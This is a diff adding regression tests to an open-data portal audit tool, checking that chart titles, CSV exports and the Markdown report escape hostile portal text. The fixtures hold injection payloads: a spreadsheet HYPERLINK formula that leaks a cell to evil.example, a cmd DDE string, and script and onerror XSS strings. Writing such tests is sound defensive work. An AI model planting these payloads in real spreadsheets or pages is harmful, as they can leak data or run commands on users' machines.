@@ -132,6 +132,71 @@ def test_the_reports_overdue_datasets_are_named_by_title_and_its_charts_ids_uniq
 
 
 
+def test_a_dollar_sign_in_a_title_is_charted_as_written(tmp_path):
+    """matplotlib read «$…$» in a title as TeX: «$\\frac{x$» stopped the audit with a
+    ValueError traceback and no report; «$100 і $200» was drawn as italic «100 і 200»."""
+    stale = [{"key": "update_frequency", "value": "Щомісяця"}, {"key": "last_modified", "value": "2020-01-01"}]
+    titles = ["Ціни $\\frac{x$ у 2021", "Бюджет $100 і $200 на рік"]
+    datasets = [{**GOOD, "name": f"d{i}", "title": title, "extras": stale} for i, title in enumerate(titles)]
+    result = run_cli("audit", "--dump", _dump_of(tmp_path, *datasets), "--out", tmp_path / "out")
+    assert result.returncode == 0, result.stderr
+    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
+    chart = re.search(r'<svg role="img" aria-label="Прострочені набори.*?</svg>', html, flags=re.DOTALL).group(0)
+    drawn = re.findall(r"<text[^>]*>([^<]*)</text>", chart)
+    assert {"Ціни $\\frac{x$ у 2021", "Бюджет $100 і $200 на рік"} <= set(drawn)
+
+
+def _csv_rows(path: Path) -> list[dict]:
+    with path.open(encoding="utf-8", newline="") as stream:
+        return list(csv.DictReader(stream))
+
+
+def test_portal_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path):
+    """A portal's title «=HYPERLINK(…)», organisation «+cmd|…» or licence «@SUM(1+1)» went into
+    the audit's CSVs as they were: Excel opening datasets.csv ran them (OWASP CSV injection)."""
+    link = '=HYPERLINK("http://evil.example/?leak="&A1,"Відкрити")'
+    resource = {"id": "r1", "name": "-2+3+cmd|' /C calc'!A0", "url": "javascript:x", "format": "CSV"}
+    formulas = {**GOOD, "name": "formulas", "title": link, "organization": {"name": "+cmd|' /C calc'!A0"},
+                "license_id": "@SUM(1+1)", "resources": [resource]}  # fmt: skip
+    numbers = {**GOOD, "name": "numbers", "title": "-5", "license_id": "\t=1+1"}
+    result = run_cli("audit", "--dump", _dump_of(tmp_path, formulas, numbers), "--out", tmp_path / "out")
+    assert result.returncode == 0, result.stderr
+    first, second = _csv_rows(tmp_path / "out" / "datasets.csv")
+    assert (first["title"], first["organization"], first["license_id"]) == (
+        "'" + link, "'+cmd|' /C calc'!A0", "'@SUM(1+1)"
+    )
+    assert (second["title"], second["license_id"]) == ("-5", "'\t=1+1")  # a number stays a number
+    assert _csv_rows(tmp_path / "out" / "resources.csv")[0]["name"] == "'-2+3+cmd|' /C calc'!A0"
+    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
+    assert "'=HYPERLINK" not in html  # the report shows the title as the portal does
+
+
+def test_a_dataset_name_written_as_text_is_compared_as_the_portals_name(tmp_path):
+    """The «'» before «-parks» in datasets.csv is no part of the name: next year's audit
+    called the dataset removed and a new one."""
+    dump = _dump_of(tmp_path, {**GOOD, "name": "-parks"})
+    assert run_cli("audit", "--dump", dump, "--out", tmp_path / "before").returncode == 0
+    after = run_cli("audit", "--dump", dump, "--out", tmp_path / "after", "--compare", tmp_path / "before")
+    assert after.returncode == 0, after.stderr
+    changes = _csv_rows(tmp_path / "after" / "changes.csv")
+    assert [(row["name"], row["status"]) for row in changes] == [("'-parks", "same")]
+
+
+def test_portal_text_in_the_markdown_report_is_text_not_markup(tmp_path):
+    """A title «<script>…</script> [click](javascript:…)» went into report.md as it was: a
+    viewer rendering the Markdown ran the HTML or showed a link of the portal's choosing."""
+    title = "<script>alert(1)</script> [click](javascript:alert(1)) `code` a|b \\<i>"
+    licence = "<img src=x onerror=alert(1)>"
+    dump = _dump_of(tmp_path, {**GOOD, "title": title, "license_id": licence})
+    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "out")
+    assert result.returncode == 0, result.stderr
+    markdown = (tmp_path / "out" / "report.md").read_text(encoding="utf-8")
+    shown = "\\<script\\>alert(1)\\</script\\> \\[click\\](javascript:alert(1)) \\`code\\` a\\|b \\\\\\<i\\>"
+    assert f"| {shown} (`public-toilets`) |" in markdown and f"### {shown} (`public-toilets`)" in markdown
+    assert not re.search(r"(?<!\\)(<script|<img|\]\(javascript)", markdown)  # none unescaped
+    assert "Ліцензія «\\<img src=x onerror=alert(1)\\>» не є відкритою" in markdown
+
+
 def test_the_report_opens_offline_with_its_one_script_only_for_printing(dump, tmp_path):
     """docs/audit.md said «no scripts» beside the report's one: what it holds is pinned here."""
     write_outputs(run_audit(dump=dump, check_links=False), tmp_path / "out")
